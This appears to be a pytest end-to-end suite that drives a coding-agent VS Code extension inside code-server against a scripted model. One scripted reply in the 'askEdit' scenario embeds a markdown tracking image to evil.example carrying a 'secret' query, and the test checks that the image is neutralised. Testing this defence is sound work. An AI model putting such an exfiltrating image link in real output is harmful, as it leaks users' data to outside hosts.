"""The VS Code extension, end to end inside real VS Code (code-server 4.100.3 = Code 1.100.3).

One code-server session is shared by the tests of this module: it installs the freshly built .vsix,
the extension starts the real `claw-lsp`, which talks to the scripted model; playwright-core
drives Debian's Chromium like a user (palette, input box, notification buttons, the Claw view,
Ctrl+Z) and records buffer texts and view text, which the tests below assert on.
Needs `scripts/install-vscode-test-deps.sh` (apt chromium + libkrb5-dev, npm code-server and
playwright-core); without it the tests are skipped with that reason.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from tests.support.scripted_model import ScriptedModel

pytestmark = pytest.mark.vscode

REPO_ROOT = Path(__file__).resolve().parents[2]
EXTENSION_DIR = REPO_ROOT / "editors" / "vscode"
HARNESS_DIR = Path(__file__).resolve().parent
DEPS_DIR = HARNESS_DIR / ".deps"
CODE_SERVER = DEPS_DIR / "node_modules" / ".bin" / "code-server"
CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOT_TARGET = REPO_ROOT / "docs" / "images" / "vscode-conversation.png"
# Screenshots the driver takes along the way (artifacts/NAME), refreshed in docs/images too.
EXTRA_SCREENSHOTS = ("vscode-chat-diff.png", "vscode-completion.png", "vscode-toolbar.png")
SERVER_EXECUTABLE = Path(sys.executable).parent / "claw-lsp"
INSTALL_HINT = "run scripts/install-vscode-test-deps.sh first"

FIXTURE_EXTENSION = HARNESS_DIR / "fixture-extension"
FIXTURE_FILES = {"lib.cfx": "def greet(name)\n", "main.cfx": 'use lib\nsay(greet("world"))\n'}
FIXTURE_CALL = {"path": "main.cfx", "line": 2, "symbol": "greet"}
FIXTURE_GOOD, FIXTURE_BAD = 'say(greet("world"))', 'say(greet("world")'
FIXTURE_BREAK = {"path": "main.cfx", "old_text": FIXTURE_GOOD, "new_text": FIXTURE_BAD}
FIXTURE_FIX = {"path": "main.cfx", "old_text": FIXTURE_BAD, "new_text": FIXTURE_GOOD}
LONG_STREAM = "Counting: " + " ".join(str(n) for n in range(1, 200)) + " END-OF-STREAM"
SCENARIOS: dict[str, list[dict[str, Any]]] = {
    "askEdit": [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    "arguments": {"path": "demo.py", "old_text": "x = 1", "new_text": "x = 2"},
                }
            ]
        },
        {"text": "Changed **x** to 2. ![tracker](https://evil.example/pixel.png?q=secret)"},
    ],
    # CI workflows are protected: even at the write tier each write asks the user first.
    "approval": [
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "arguments": {"path": ".github/workflows/ci.yml", "content": "name: ci\n"},
                }
            ]
        },
        {"text": "Wrote the workflow."},
    ],
    "proposal": [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    "arguments": {"path": "demo.py", "old_text": "x = 1", "new_text": "x = 3"},
                }
            ]
        },
        {"text": "Proposed x = 3 for review."},
    ],
    "cancel": [{"text": LONG_STREAM, "chunks": 60, "chunk_delay": 0.25}],
    # Issue 20: the chat input of the conversation view.
    "mention": [{"text": "It sets x to 1."}],
    "slash": [],
    "commandPicker": [],
    "selectionChip": [{"text": "The selection is one assignment."}],
    "undoButton": [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    # demo.py holds the accepted proposal (x = 3) by then.
                    "arguments": {"path": "demo.py", "old_text": "x = 3", "new_text": "x = 5"},
                }
            ]
        },
        {"text": "Set x to 5."},
    ],
    "tier": [],
    # Issue 16: the language tools through claw/lsp, answered by the fixture extension's
    # providers and diagnostic collection (fixture-extension/, language "clawfix").
    "lspBridge": [
        {"tool_calls": [{"name": "definition", "arguments": FIXTURE_CALL}]},
        {
            "tool_calls": [
                {
                    "name": "references",
                    "arguments": {"path": "lib.cfx", "line": 1, "symbol": "greet"},
                }
            ]
        },
        {"tool_calls": [{"name": "edit_file", "arguments": FIXTURE_BREAK}]},
        {"tool_calls": [{"name": "edit_file", "arguments": FIXTURE_FIX}]},
        {"text": "Navigated and checked."},
    ],
}


def _missing_dependencies() -> list[str]:
    missing = []
    if not CODE_SERVER.exists():
        missing.append(str(CODE_SERVER))
    if not (DEPS_DIR / "node_modules" / "playwright-core").exists():
        missing.append("playwright-core")
    if not (EXTENSION_DIR / "node_modules" / ".bin" / "esbuild").exists():
        missing.append(str(EXTENSION_DIR / "node_modules"))
    if not CHROMIUM.exists():
        missing.append(str(CHROMIUM))
    if shutil.which("node") is None:
        missing.append("node")
    return missing


def _require_dependencies() -> None:
    missing = _missing_dependencies()
    if missing:
        pytest.skip(f"VS Code e2e dependencies missing ({', '.join(missing)}): {INSTALL_HINT}")


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _run(command: list[str], cwd: Path, timeout: float) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        command, cwd=cwd, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL
    )
    assert result.returncode == 0, (
        f"{' '.join(command)} failed:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
    )
    return result


def _stop_process_group(process: subprocess.Popen[bytes]) -> None:
    """code-server leaves fileWatcher children behind when only it dies: end its whole group."""
    try:
        group = os.getpgid(process.pid)
    except ProcessLookupError:
        return
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.killpg(group, sig)
        except ProcessLookupError:
            return
        try:
            process.wait(timeout=5)
        except subprocess.TimeoutExpired:
            continue
        time.sleep(0.5)


def _wait_healthy(url: str, process: subprocess.Popen[bytes], timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert process.poll() is None, "code-server exited during start-up"
        try:
            with urllib.request.urlopen(f"{url}/healthz", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise AssertionError("code-server did not become healthy")


@pytest.fixture(scope="module")
def vsix(tmp_path_factory: pytest.TempPathFactory) -> Path:
    _require_dependencies()
    out = tmp_path_factory.mktemp("vsix") / "claw-lsp.vsix"
    _run(["npm", "run", "build"], EXTENSION_DIR, timeout=120)
    _run(
        [str(EXTENSION_DIR / "node_modules" / ".bin" / "vsce"), "package", "--out", str(out)],
        EXTENSION_DIR,
        timeout=120,
    )
    # The fixture language extension (issue 16) is installed beside ours.
    vsce = str(EXTENSION_DIR / "node_modules" / ".bin" / "vsce")
    _run([vsce, "package", "--out", str(out.with_name("fixture.vsix"))], FIXTURE_EXTENSION, 120)
    return out


def _code_server_session(
    vsix: Path, base: Path, settings: dict[str, Any], driver_options: dict[str, Any]
) -> dict[str, Any]:
    """Starts code-server with the .vsix and a scripted model, runs drive.mjs, stops everything."""
    workspace, user_data, extensions, state = (
        base / name for name in ("ws", "user-data", "extensions", "state")
    )
    for folder in (workspace, user_data / "User", extensions, state):
        folder.mkdir(parents=True)
    (workspace / "demo.py").write_text("x = 1\n")
    for name, text in FIXTURE_FILES.items():
        (workspace / name).write_text(text)
    user_settings = {
        # VS Code saves refactoring edits by default; the tests check buffer and undo.
        "files.refactoring.autoSave": False,
        # VS Code for the web (code-server) defaults files.autoSave to afterDelay (1 s): a turn
        # that waits for diagnostics after its edit would see the edit saved before Ctrl+Z.
        "files.autoSave": "off",
        "workbench.startupEditor": "none",
        "security.workspace.trust.enabled": False,
        "telemetry.telemetryLevel": "off",
        "extensions.autoUpdate": False,
        "extensions.autoCheckUpdates": False,
        "update.mode": "none",
        "workbench.tips.enabled": False,
        "git.enabled": False,
        **settings,
    }
    (user_data / "User" / "settings.json").write_text(json.dumps(user_settings, indent=2))
    for package in (vsix, vsix.with_name("fixture.vsix")):
        _run(
            [str(CODE_SERVER), "--extensions-dir", str(extensions), "--user-data-dir",
             str(user_data), "--install-extension", str(package)],
            REPO_ROOT,
            timeout=120,
        )  # fmt: skip

    model = ScriptedModel().start()
    port = _free_port()
    url = f"http://127.0.0.1:{port}"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CLAW_", "OPENAI_"))}
    env.update(
        OPENAI_BASE_URL=model.base_url,
        OPENAI_API_KEY="test-key",
        OPENAI_MODEL="scripted",
        CLAW_STATE_DIR=str(state),
        XDG_CONFIG_HOME=str(base / "xdg-config"),
        XDG_DATA_HOME=str(base / "xdg-data"),
    )
    log_file = (base / "code-server.log").open("wb")
    code_server = subprocess.Popen(
        [
            str(CODE_SERVER), "--auth", "none", "--bind-addr", f"127.0.0.1:{port}",
            "--extensions-dir", str(extensions), "--user-data-dir", str(user_data),
            "--disable-telemetry", "--disable-update-check", "--disable-workspace-trust",
            str(workspace),
        ],
        cwd=base, env=env, stdout=log_file, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    try:
        _wait_healthy(url, code_server)
        config = {
            "url": url,
            "workspace": str(workspace),
            "depsDir": str(DEPS_DIR),
            "chromium": str(CHROMIUM),
            "modelControl": f"http://127.0.0.1:{model.port}",
            "results": str(base / "results.json"),
            "screenshot": str(base / "conversation.png"),
            "artifacts": str(base / "artifacts"),
            **driver_options,
        }
        (base / "config.json").write_text(json.dumps(config))
        driver = subprocess.run(
            ["node", str(HARNESS_DIR / "drive.mjs"), str(base / "config.json")],
            cwd=HARNESS_DIR, capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        results: dict[str, Any] = json.loads(Path(config["results"]).read_text())
        results["driverOutput"] = driver.stdout[-4000:] + driver.stderr[-4000:]
        results["workspace"] = workspace
        results["screenshotPath"] = Path(config["screenshot"])
        results["artifacts"] = base
        assert "fatal" not in results, (
            f"driver failed: {results['fatal']}\n{results['driverOutput']}\nartifacts: {base}"
        )
        return results
    finally:
        _stop_process_group(code_server)
        log_file.close()
        model.stop()


@pytest.fixture(scope="module")
def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    assert SERVER_EXECUTABLE.exists(), f"{SERVER_EXECUTABLE} is missing (pip install -e .)"
    settings = {
        "claw.server.path": str(SERVER_EXECUTABLE),
        "claw.tier": "write",
        "claw.requestTimeout": 30,
    }
    return _code_server_session(
        vsix, tmp_path_factory.mktemp("code-server"), settings, {"scenarios": SCENARIOS}
    )


@pytest.fixture(scope="module")
def missing_server_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    settings = {"claw.server.path": "/nonexistent/claw-lsp"}
    return _code_server_session(
        vsix, tmp_path_factory.mktemp("code-server-missing"), settings, {"mode": "missingServer"}
    )


def _scenario(results: dict[str, Any], name: str) -> dict[str, Any]:
    record: dict[str, Any] = results["scenarios"].get(name, {})
    assert record.get("ok"), (
        f"scenario {name} failed: {record.get('error')}\nartifacts: {results['artifacts']}"
    )
    return record


def _messages_text(request: dict[str, Any]) -> str:
    return json.dumps(request.get("messages", []))


def test_unit_tests_of_the_view_model_pass() -> None:
    _require_dependencies()
    result = subprocess.run(
        ["npm", "test"], cwd=EXTENSION_DIR, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-2000:]
    assert "# fail 0" in result.stdout


def test_status_bar_shows_the_tier_from_user_settings(vscode_run: dict[str, Any]) -> None:
    assert "Claw: write" in vscode_run["statusBar"]


def test_ask_agent_edits_the_buffer_and_ctrl_z_reverts_it(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "askEdit")
    assert record["bufferAfterEdit"].strip() == "x = 2"
    assert record["bufferAfterUndo"].strip() == "x = 1"
    # The buffer was never saved behind the user's back (files.refactoring.autoSave is off).
    assert record["diskAfterUndo"] == "x = 1\n"
    assert "Change x to 2" in _messages_text(record["requests"][0])
    assert "Changed x to 2." in record["turnText"]
    # The model's remote image was neutralised (by the server, and the view would too), not loaded.
    text = record["turnText"]
    assert "[remote image removed: tracker]" in text or "[image not loaded: tracker]" in text
    assert "read_file" in record["turnText"] and "edit_file" in record["turnText"]


def test_approval_prompt_is_answered_and_the_tool_runs(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "approval")
    assert ".github/workflows/ci.yml" in record["approvalMessage"]
    assert "Approval for write_file: allowed once" in record["turnText"]
    assert "Wrote the workflow." in record["turnText"]
    # The allowed write reached the model as a success, not as a denial.
    last_messages = record["requests"][-1]["messages"]
    tool_result = next(m for m in reversed(last_messages) if m.get("role") == "tool")
    assert "denied" not in tool_result["content"].lower()


def test_proposal_is_reviewed_in_a_diff_and_accepted(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "proposal")
    assert record["bufferWhileProposed"].strip() == "x = 1", (
        "a proposal must not touch the buffer before it is accepted"
    )
    assert record["diffModified"] is not None and "x = 3" in record["diffModified"]
    assert record["bufferAfterAccept"].strip() == "x = 3"
    assert "accepted" in record["viewText"]


def test_stop_button_stops_a_slow_stream(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "cancel")
    assert "Cancelled" in record["turnText"]
    assert "END-OF-STREAM" not in record["turnText"]
    assert record["stopHiddenAfter"]


def _user_messages(request: dict[str, Any]) -> str:
    return "\n".join(
        str(m.get("content")) for m in request.get("messages", []) if m.get("role") == "user"
    )


def test_edit_shows_an_inline_diff_and_an_undo_button(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "askEdit")
    assert "-x = 1" in record["inlineDiff"] and "+x = 2" in record["inlineDiff"]
    assert record["undoButtons"] == 1


def test_at_completion_attaches_the_file_as_a_chip(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "mention")
    assert "@demo.py" in record["popup"]
    assert "@demo.py" in record["chips"]
    assert record["inputAfterAccept"].strip() == "What does this set?"
    user = _user_messages(record["requests"][0])
    assert "What does this set?" in user and "@demo.py" in user
    # The server expanded the mention: the file's text went to the model with the prompt.
    last_user = [m for m in record["requests"][0]["messages"] if m.get("role") == "user"][-1]
    assert '<attachment kind="file" name="demo.py"' in last_user["content"]
    assert "\tx = 3" in last_user["content"]
    assert "Attached file" in record["turnText"] and "demo.py" in record["turnText"]
    assert "It sets x to 1." in record["turnText"]


def test_slash_completion_sends_a_command_and_up_recalls_it(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "slash")
    assert "/help" in record["popup"]
    assert record["inputAfterAccept"] == "/help "
    assert "Answered locally" in record["turnText"]
    assert record["requests"] == [], "a built-in command never calls the model"
    assert record["recalled"] == "/help"


def test_the_command_picker_starts_the_input(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "commandPicker")
    assert any(entry.startswith("/help") for entry in record["entries"])
    assert record["inputAfterPick"] == "/status "
    assert "Answered locally" in record["turnText"] and "Tier:" in record["turnText"]


def test_ask_keybinding_attaches_the_selection_as_a_chip(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "selectionChip")
    assert "demo.py:1-1" in record["chips"]
    user = _user_messages(record["requests"][0])
    assert "What is selected?" in user and "@selection" in user
    assert '<attachment kind="selection"' in user
    assert "Attached selection" in record["turnText"]


def test_undo_turn_button_reverts_the_turn(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "undoButton")
    assert record["bufferAfterEdit"].strip() == "x = 5"
    assert record["bufferAfterUndo"].strip() == "x = 3"
    assert record["undoButtonsAfter"] == 0, "an undone turn offers no second undo"


def test_toolbar_switches_the_tier(vscode_run: dict[str, Any]) -> None:
    record = _scenario(vscode_run, "tier")
    # unsafe is not offered: the user's settings do not allow it (claw.chat.allowUnsafeTier).
    assert record["tiersOffered"] == ["read-only", "write", "shell"]
    assert "Claw: read-only" in record["statusAfter"]
    assert "Claw: write" in record["statusBack"]


def test_a_missing_server_is_reported_with_a_fix(missing_server_run: dict[str, Any]) -> None:
    record = _scenario(missing_server_run, "missingServer")
    assert '"/nonexistent/claw-lsp" was not found' in record["message"]
    assert "pipx install ./claw_lsp" in record["message"]
    assert "claw.server.path" in record["message"]
    assert "Open Settings" in record["message"]
    assert "stopped" in record["statusBar"]


def test_screenshot_of_the_view_is_saved(vscode_run: dict[str, Any]) -> None:
    _scenario(vscode_run, "proposal")
    screenshot: Path = vscode_run["screenshotPath"]
    assert screenshot.exists() and screenshot.stat().st_size > 10_000
    # The committed screenshot in docs/ is refreshed only on request, so runs leave the tree clean.
    extras = [vscode_run["artifacts"] / "artifacts" / name for name in EXTRA_SCREENSHOTS]
    for extra in extras:
        assert extra.exists() and extra.stat().st_size > 10_000, extra
    if os.environ.get("CLAW_UPDATE_SCREENSHOT"):
        SCREENSHOT_TARGET.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(screenshot, SCREENSHOT_TARGET)
        for extra in extras:
            shutil.copyfile(extra, SCREENSHOT_TARGET.parent / extra.name)


def _tool_results(record: dict[str, Any]) -> list[str]:
    """The tool results the model was sent, in order (the tail of each request)."""
    out: list[str] = []
    for request in record["requests"]:
        tail: list[str] = []
        for message in reversed(request.get("messages", [])):
            if message.get("role") != "tool":
                break
            tail.insert(0, message["content"])
        out += tail
    return out


def test_language_tools_and_the_delta_come_through_claw_lsp(vscode_run: dict[str, Any]) -> None:
    """Issue 16: definition, references and each edit's diagnostics delta come from VS Code's
    own providers (the fixture extension), through claw/lsp and claw/diagnostics."""
    record = _scenario(vscode_run, "lspBridge")
    definition, references, breaking, fixing = _tool_results(record)
    assert "'greet' is defined at (from vscode):" in definition
    assert "lib.cfx:1:5: def greet(name)" in definition
    assert "2 reference(s) to 'greet'" in references
    assert "lib.cfx:1:5" in references and "main.cfx:2:5" in references
    assert "Diagnostics: main.cfx: 1 new error" in breaking, breaking
    assert "error [clawfix] (CF1): unclosed parenthesis" in breaking
    assert "Diagnostics: main.cfx: fixed 1 error" in fixing, fixing
    assert record["bufferAfter"].strip() == 'use lib\nsay(greet("world"))'
    assert "Navigated and checked." in record["turnText"]
